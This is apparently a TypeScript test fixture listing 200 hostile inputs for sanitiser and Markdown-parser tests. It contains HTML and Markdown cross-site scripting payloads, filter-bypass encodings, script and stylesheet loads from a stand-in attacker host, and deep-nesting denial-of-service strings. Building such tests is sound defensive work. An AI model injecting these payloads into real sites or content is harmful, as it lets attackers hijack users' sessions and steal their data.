/**
 * 200 texts that try to run script in a page: known ways past sanitisers and Markdown parsers, each in several shapes.
 * All of them would call `pwned()` or load something from another site.
 */

const HTML = [
  `<script>pwned()</script>`,
  `<ScRiPt src="https://evil.example/x.js"></sCrIpT>`,
  `<img src=x onerror=pwned()>`,
  `<img src=x onerror="pwned()" hidden>`,
  `<svg onload=pwned()>`,
  `<svg><script>pwned()</script></svg>`,
  `<svg><animate onbegin=pwned() attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:pwned()">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:pwned()"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<object data="javascript:pwned()"></object>`,
  `<embed src="javascript:pwned()">`,
  `<a href="javascript:pwned()">x</a>`,
  `<a href="java&#10;script:pwned()">x</a>`,
  `<a href=" &#1; javascript:pwned()">x</a>`,
  `<a href="data:text/html,<script>pwned()</script>">x</a>`,
  `<form action="javascript:pwned()"><button autofocus>x</button></form>`,
  `<button formaction="javascript:pwned()" form=composer>x</button>`,
  `<input autofocus onfocus=pwned()>`,
  `<details open ontoggle=pwned()>x</details>`,
  `<video><source onerror=pwned()></video>`,
  `<audio src=x onerror=pwned()></audio>`,
  `<body onload=pwned()>`,
  `<marquee onstart=pwned()>x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=javascript:pwned()">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>`,
  `<base href="https://evil.example/">`,
  `<template><script>pwned()</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>`,
  `<!--><img src=x onerror=pwned()>-->`,
  `<![CDATA[<img src=x onerror=pwned()>]]>`,
  `<div style="background:url(javascript:pwned())">x</div>`,
  `<div id=send name=composer onclick=pwned()>x</div>`,
  `<p onmouseover=pwned()>x</p>`,
  `<xss style="animation-name:waiting" onanimationstart=pwned()></xss>`,
  `"><script>pwned()</script>`,
  `</textarea><script>pwned()</script>`,
] as const;

const MARKDOWN = [
  `[x](javascript:pwned())`,
  `[x](JaVaScRiPt:pwned())`,
  `[x](java\tscript:pwned())`,
  `[x](&#106;avascript:pwned())`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)`,
  `[x](vbscript:pwned())`,
  `![x](https://evil.example/x.png)`,
  `![x](x "onerror=pwned()")`,
  `![x](javascript:pwned())`,
  `<javascript:pwned()>`,
  `[x]: javascript:pwned()\n\n[x]`,
  `[a]: <javascript:pwned()> "t"\n\n[click][a]`,
  '```js"><img src=x onerror=pwned()>\ncode\n```',
  "```<script>pwned()</script>\ncode\n```",
  "`<img src=x onerror=pwned()>`",
  `| <img src=x onerror=pwned()> | b |\n|---|---|\n| <script>pwned()</script> | d |`,
  `> <img src=x onerror=pwned()>`,
  `- <svg onload=pwned()>`,
  `# <img src=x onerror=pwned()>`,
  `**<img src=x onerror=pwned()>**`,
  `[<img src=x onerror=pwned()>](https://ok.example)`,
  `[x](https://ok.example "\\"onmouseover=pwned() x=")`,
  `[x](https://ok.example/"onmouseover="pwned())`,
  `https://ok.example/"onmouseover="pwned()`,
  `<https://ok.example/"onmouseover="pwned()>`,
] as const;

/** Deep nesting: parsers that recurse must not bring the page down. */
const DEEP = [
  ">".repeat(5000),
  "[".repeat(5000),
  "*a ".repeat(3000),
  "- ".repeat(2000),
  "<div>".repeat(3000),
  `${"![".repeat(2000)}x${"](x)".repeat(2000)}`,
  "`".repeat(4999),
  "_".repeat(4999),
  "|a".repeat(2000),
  "&#".repeat(3000),
] as const;

const SHAPES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Some text before.\n\n${payload}\n\nAnd after.`,
  (payload) => `1. one\n2. ${payload.replaceAll("\n", " ")}`,
];

export const HOSTILE_PAYLOADS: readonly string[] = [
  ...SHAPES.flatMap((shape) => [...HTML, ...MARKDOWN].map(shape)).slice(0, 190),
  ...DEEP,
];
